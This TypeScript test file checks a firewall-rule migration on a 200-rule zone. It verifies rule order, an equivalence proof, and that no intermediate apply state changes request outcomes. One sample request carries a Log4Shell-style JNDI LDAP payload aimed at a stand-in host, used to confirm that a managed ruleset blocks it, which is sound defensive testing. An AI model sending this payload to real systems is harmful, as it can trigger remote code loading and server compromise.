/**
 * Issue 32 item 3 and its "done means" scenario: a 200-rule zone with shared filters and ties,
 * built through the API (applied from its manifest), upgraded on the GitOps path: `migrate
 * firewall-rules --write` (the manifest rewrite) then a plain `apply --force` of the rewritten
 * manifest. The converted order equals the API's order; the proof reports no difference, also for
 * an allowed request a managed rule blocks before and after; and at every intermediate state of
 * the apply (after each write call, in batches small enough to leave many) every sampled request
 * ends as it does in the start state or in the end state (and, as both ends agree, as both do).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyZone } from '../../src/apply/index.js';
import { validateManifestText, wafGenerationOf, type DesiredZone } from '../../src/manifest/index.js';
import { upgradeFirewallManifest } from '../../src/migrate/index.js';
import { diffZone, readsFor } from '../../src/plan/index.js';
import { evaluateOffline, buildZoneModel, generateCorpus, liveTraceInput, proveEquivalence, traceLocally, withZoneHost } from '../../src/policy/index.js';
import { openEngineProvider, type EngineProvider } from '../../src/providers/engine/index.js';
import type { Provider, TraceRequest, TraceResult } from '../../src/providers/index.js';
import { casesOf } from '../policy/fixtures.js';
import { generatedZone } from '../../support/generated-zone.js';

const Zone = 'gitops.example.com';

let dir: string;
let engine: EngineProvider;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'zw-gitops-window-'));
  engine = await openEngineProvider({ stateDir: dir });
});
afterAll(async () => {
  await engine.close();
  rmSync(dir, { recursive: true, force: true });
});

/** The generated 200-rule zone, with an office allow rule that ties at priority 1 and the Managed Ruleset deployed. */
function manifestText(): string {
  return `${generatedZone({ rules: 200, filters: 150, zone: Zone })}  office:
    action: allow
    filter: { expression: 'ip.src in {198.51.100.0/24}' }
    priority: 1
managed_rules:
  - ruleset: managed
`;
}

function load(text: string): DesiredZone {
  const loaded = validateManifestText(text, 'zone.yaml');
  expect(loaded.issues).toEqual([]);
  return loaded.zone!;
}

/** How a request ends: at the origin or by a terminating action. */
function outcome(t: TraceResult): string {
  return t.action === null || t.action === 'allow' || t.action === 'log' || t.action === 'skip' ? 'origin' : t.action;
}

async function outcomes(zoneId: string, requests: readonly TraceRequest[]): Promise<string[]> {
  const input = liveTraceInput(await engine.readZone(zoneId));
  return requests.map((r) => outcome(traceLocally(input, r)));
}

/** The engine, calling `after` once each write call has finished. */
function observed(after: () => Promise<void>): Provider {
  return new Proxy(engine, {
    get(target, prop, receiver) {
      const value: unknown = Reflect.get(target, prop, receiver);
      if (typeof value !== 'function' || typeof prop !== 'string' || !/^(create|update|delete|put|patch)[A-Z]/.test(prop)) return value;
      return async (...args: unknown[]) => {
        const result = await (value as (...a: unknown[]) => Promise<unknown>).apply(target, args);
        await after();
        return result;
      };
    },
  });
}

const office = { host: Zone, path: '/', ip: '198.51.100.7', headers: { 'User-Agent': 'Mozilla/5.0', 'X-Api-Version': '${jndi:ldap://203.0.113.1/a}' } };

describe('the GitOps path of the upgrade on a 200-rule zone (issue 32)', () => {
  it('keeps the API order, proves equal, and leaves no window between the two generations', async () => {
    const text = manifestText();
    const before = load(text);
    expect(before.firewallRules).toHaveLength(201);
    const { zone } = await engine.resolveZone(Zone, { create: { plan: 'enterprise', waf: wafGenerationOf(before) } });
    expect((await applyZone(diffZone(before, await engine.readZone(zone.id, readsFor(before)), {}), engine, { force: true })).ok).toBe(true);

    // The conversion's order is the order the API lists the rules in (ties included).
    const live = await engine.readZone(zone.id);
    const up = upgradeFirewallManifest('zone.yaml', text, before);
    const after = up.after!;
    const convertedFrom = up.conversion.customRules.map((r) => up.conversion.sources.get(r.ref)!.ruleKey);
    const converted = new Set(convertedFrom);
    expect(convertedFrom).toEqual(live.firewallRules.map((r) => r.ref).filter((ref) => ref !== undefined && converted.has(ref)));
    expect(convertedFrom).toHaveLength(201);

    // The proof: no difference, the office request a managed rule blocks before and after included.
    const cases = casesOf(`- name: the office request the Managed Ruleset blocks after the allow
  request: { ip: 198.51.100.7, headers: { User-Agent: Mozilla/5.0, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
  expect: { action: block }
`).cases;
    expect(evaluateOffline(buildZoneModel(before), office)).toMatchObject({ action: 'block', decided_by: 'managed_rules' });
    expect(proveEquivalence({ before, after, renames: up.renames, cases }).differences).toEqual([]);

    // Sampled requests: the corpus of the zone's expressions, and the office request.
    const corpus = generateCorpus(before.filters.map((f) => f.expression), 'http_request_firewall_custom');
    const step = Math.max(1, Math.floor(corpus.length / 400));
    const sample = [office, ...corpus.filter((_, i) => i % step === 0).slice(0, 400).map((c) => withZoneHost(c.request, Zone))];
    const start = await outcomes(zone.id, sample);

    // `apply --force` of the rewritten manifest, in batches of 20: each write call is a state to sample.
    const states: string[][] = [];
    const provider = observed(async () => { states.push(await outcomes(zone.id, sample)); });
    const plan = diffZone(after, await engine.readZone(zone.id, readsFor(after)), {});
    expect((await applyZone(plan, provider, { force: true, batchSize: 20 })).ok).toBe(true);
    const end = await outcomes(zone.id, sample);
    expect((await engine.readZone(zone.id)).firewallRules).toEqual([]);
    expect(states.length).toBeGreaterThan(10);
    // Both ends agree (the conversion keeps every final action) ...
    expect(end).toEqual(start);
    // ... and so does every state in between.
    const windows = states.flatMap((s, k) => s.flatMap((o, i) => (o !== start[i] && o !== end[i] ? [`state ${k}: request ${i} ${start[i]} -> ${o}`] : [])));
    expect(windows).toEqual([]);
  });
});
